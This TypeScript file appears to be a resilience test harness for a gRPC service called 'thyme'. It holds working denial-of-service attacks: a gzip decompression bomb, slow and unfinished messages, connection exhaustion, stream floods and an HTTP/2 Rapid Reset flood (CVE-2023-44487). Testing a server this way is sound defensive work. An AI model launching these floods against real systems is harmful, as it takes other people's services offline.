import { connect as connectHttp2, constants, type ClientHttp2Session } from 'node:http2';
import { gzipSync } from 'node:zlib';
import { create, toBinary } from '@bufbuild/protobuf';
import { QueryOfflineRequestSchema } from '../../../gen/thyme/v1/query_pb.js';
import { sleep, tally, type Attack } from '../attack.js';
import {
  countClosed,
  END_HEADERS,
  END_STREAM,
  frame,
  FRAME,
  openHttp2,
  openSocket,
  requestHeaders,
  resetFrame,
  write,
} from '../http2-frames.js';

const MIB = 1_024 * 1_024;
const WATCH = '/grpc.health.v1.Health/Watch';
const REFLECTION = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';

function session(grpcTarget: string): ClientHttp2Session {
  const opened = connectHttp2(`http://${grpcTarget}`, { peerMaxConcurrentStreams: 10_000 });
  opened.on('error', () => undefined);
  return opened;
}

/** A call whose answer's status is told, or how its stream ended. `messages` are sent as they are. */
function call(on: ClientHttp2Session, path: string, messages: readonly Uint8Array[], options: { readonly end?: boolean } = {}) {
  const stream = on.request({
    ':method': 'POST',
    ':path': path,
    'content-type': 'application/grpc',
    te: 'trailers',
    'grpc-encoding': 'gzip',
  });
  const status = new Promise<string>((resolve) => {
    stream.on('response', (headers) => headers['grpc-status'] !== undefined && resolve(`status ${String(headers['grpc-status'])}`));
    stream.on('trailers', (headers: Record<string, unknown>) => resolve(`status ${String(headers['grpc-status'])}`));
    stream.on('error', () => resolve('reset'));
    stream.on('close', () => resolve('closed'));
  });
  for (const message of messages) stream.write(message);
  if (options.end === true) stream.end();
  return { stream, status };
}

function framed(message: Uint8Array, options: { readonly compressed?: boolean; readonly announced?: number } = {}): Buffer {
  const prefix = Buffer.alloc(5);
  prefix[0] = options.compressed === true ? 1 : 0;
  prefix.writeUInt32BE(options.announced ?? message.length, 1);
  return Buffer.concat([prefix, message]);
}

/** 32 KB of gzip are 33 MB of fields that nobody knows: two bytes each, and an object of a hundred once they are kept. */
export const gzippedUnknownFields: Attack = async ({ grpcTarget }) => {
  const unknown = Buffer.alloc(32 * MIB, Buffer.of(0x78, 0x01)); // field 15, a varint of 1
  const on = session(grpcTarget);
  const message = framed(gzipSync(unknown, { level: 9 }), { compressed: true });
  const outcomes = await Promise.all([0, 1].map(() => call(on, WATCH, [message], { end: true }).status));
  on.destroy();
  return { bytes: message.length, outcomes: tally(outcomes) };
};

/** Each announces 33 MB, sends nearly all of it, and waits. */
export const unfinishedMessages: Attack = async ({ grpcTarget }) => {
  const on = session(grpcTarget);
  const part = Buffer.alloc(MIB);
  const outcomes = await Promise.all(
    Array.from({ length: 60 }, async () => {
      const { stream, status } = call(on, REFLECTION, [framed(part, { announced: 33 * MIB })]);
      for (let sent = 1; sent < 32 && !stream.closed; sent++) {
        stream.write(part);
        await Promise.race([status, sleep(20)]);
      }
      return Promise.race([status, sleep(3_000).then(() => 'open')]);
    }),
  );
  on.destroy();
  return { outcomes: tally(outcomes) };
};

/** Connections that say nothing, more than there are descriptors. */
export const silentConnections: Attack = async ({ grpcTarget }) => {
  const sockets = await Promise.all(Array.from({ length: 1_600 }, () => openSocket(grpcTarget)));
  await sleep(4_000);
  const closed = countClosed(sockets);
  for (const socket of sockets) socket.destroy();
  return { opened: sockets.length, closedByServer: closed };
};

/** A batch of empty keys: two bytes each. */
export const emptyKeys: Attack = async ({ grpcTarget }) => {
  const on = session(grpcTarget);
  const keys = Buffer.alloc(33 * 1_000_000, Buffer.of(0x12, 0x00)); // entities = 2, of no bytes
  const startMs = performance.now();
  const outcome = await call(on, '/thyme.v1.QueryService/QueryBatch', [framed(keys)], { end: true }).status;
  on.destroy();
  return { outcome, answeredMs: Math.round(performance.now() - startMs) };
};

/** Training sets that nobody reads. */
export const unreadTrainingSets: Attack = async ({ grpcTarget }) => {
  const at = BigInt(Date.now()) * 1_000n - 1_000_000n;
  const questions = Array.from({ length: 2_000 }, (_, i) => ({
    entity: { values: [{ kind: { case: 'stringValue' as const, value: `account-${i}`.padEnd(200, '-') } }] },
    timestampUs: at,
  }));
  const message = framed(toBinary(QueryOfflineRequestSchema, create(QueryOfflineRequestSchema, { featureset: 'Account', questions })));
  const sessions = Array.from({ length: 5 }, () => session(grpcTarget));
  const calls = sessions.flatMap((on) =>
    Array.from({ length: 100 }, () => {
      const { stream, status } = call(on, '/thyme.v1.QueryService/QueryOffline', [message]);
      stream.pause();
      return status;
    }),
  );
  const outcomes = await Promise.all(calls.map((status) => Promise.race([status, sleep(4_000).then(() => 'open')])));
  for (const on of sessions) on.destroy();
  return { outcomes: tally(outcomes) };
};

/** Twenty thousand who want to know how the server does. */
export const healthWatchers: Attack = async ({ grpcTarget }) => {
  const sessions = Array.from({ length: 80 }, () => session(grpcTarget));
  const statuses: Promise<string>[] = [];
  for (const on of sessions) {
    for (let i = 0; i < 250; i++) statuses.push(call(on, WATCH, [framed(Buffer.alloc(0))], { end: true }).status);
    await sleep(50);
  }
  await sleep(4_000);
  const outcomes = await Promise.all(statuses.map((status) => Promise.race([status, sleep(1_000).then(() => 'watching')])));
  for (const on of sessions) on.destroy();
  return { outcomes: tally(outcomes) };
};

/** Rapid reset: 497 connections of a thousand calls, each taken back at once (CVE-2023-44487). */
export const resetFlood: Attack = async ({ grpcTarget }) => {
  const block = requestHeaders('/thyme.v1.QueryService/Query');
  const frames = Array.from({ length: 1_000 }, (_, i) => [
    frame(FRAME.headers, END_HEADERS, 1 + 2 * i, block),
    resetFrame(1 + 2 * i),
  ]).flat();
  const flood = Buffer.concat(frames);
  const sockets = await Promise.all(Array.from({ length: 497 }, () => openHttp2(grpcTarget)));
  await Promise.all(sockets.map((socket) => Promise.race([write(socket, flood), sleep(5_000)])));
  for (let waits = 0; waits < 80 && countClosed(sockets) < sockets.length; waits++) await sleep(100);
  const closed = countClosed(sockets);
  for (const socket of sockets) socket.destroy();
  return { connections: sockets.length, closedByServer: closed };
};

/** Watchers who leave, a hundred at once and with their connection's two hundredth cancelled call among them. */
export const leavingWatchers: Attack = async ({ grpcTarget }) => {
  const block = requestHeaders(WATCH);
  const nothing = Buffer.from([0, 0, 0, 0, 0]);
  let closed = 0;
  for (let round = 0; round < 30; round++) {
    const socket = await openHttp2(grpcTarget);
    for (let from = 0; from < 300; from += 100) {
      const streams = Array.from({ length: 100 }, (_, i) => 1 + 2 * (from + i));
      for (const stream of streams)
        await write(
          socket,
          Buffer.concat([frame(FRAME.headers, END_HEADERS, stream, block), frame(FRAME.data, END_STREAM, stream, nothing)]),
        );
      await sleep(40); // until they are being answered
      await write(socket, Buffer.concat(streams.map(resetFrame)));
    }
    for (let waits = 0; waits < 100 && countClosed([socket]) === 0; waits++) await sleep(20);
    closed += countClosed([socket]);
    socket.destroy();
  }
  return { closedByServer: closed };
};

/** The same for a method that nobody has: to answer a stream that is gone ends a process that does not look. */
export const resetUnknownMethods: Attack = async ({ grpcTarget }) => {
  const socket = await openHttp2(grpcTarget);
  for (let i = 0; i < 100; i++) {
    const stream = 1 + 2 * i;
    await write(
      socket,
      Buffer.concat([frame(FRAME.headers, END_HEADERS, stream, requestHeaders(i % 2 === 0 ? '/no.such/Method' : '/')), resetFrame(stream)]),
    );
  }
  await sleep(500);
  const closed = countClosed([socket]);
  socket.destroy();
  return { closedByServer: closed, code: constants.NGHTTP2_CANCEL };
};
